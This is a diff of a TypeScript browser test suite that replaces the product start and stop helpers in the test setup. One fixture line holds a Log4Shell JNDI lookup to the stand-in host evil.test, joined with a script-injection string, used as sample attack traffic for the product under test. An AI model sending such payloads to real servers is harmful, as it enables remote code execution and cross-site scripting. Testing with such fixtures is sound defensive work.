@@ -2,19 +2,19 @@ import { readFileSync } from 'node:fs'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { captureOf, upload, waitUntilIdle, webVisit } from '../product/captures.ts'
-import { startProduct, type Product } from '../product/start.ts'
+import { type Inside, openInside } from '../product/inside.ts'
 import { violations } from './accessible.ts'
 import { openBrowser } from './open.ts'
 import { alive, sideways, visit } from './visitor.ts'
 
-let product: Product
+let product: Inside
 let browser: Browser
 const ip = '198.18.1.1'
 const payload = '/?x=${jndi:ldap://evil.test/a}<script>alert(1)</script>'
 
 /** An address that tries Log4Shell with markup in its request, and two more of its block. */
 beforeAll(async () => {
-  ;[product, browser] = await Promise.all([startProduct(), openBrowser()])
+  ;[product, browser] = await Promise.all([openInside(), openBrowser()])
   const at = Date.now() - 600_000
   await upload(
     product,
@@ -29,8 +29,7 @@ beforeAll(async () => {
 
 afterAll(async () => {
   await browser?.close()
-  await product?.stop()
-  product?.remove()
+  await product?.close()
 })
 
 async function visiting(journey: (page: Page) => Promise<void>, options: Parameters<typeof visit>[2] = {}) {
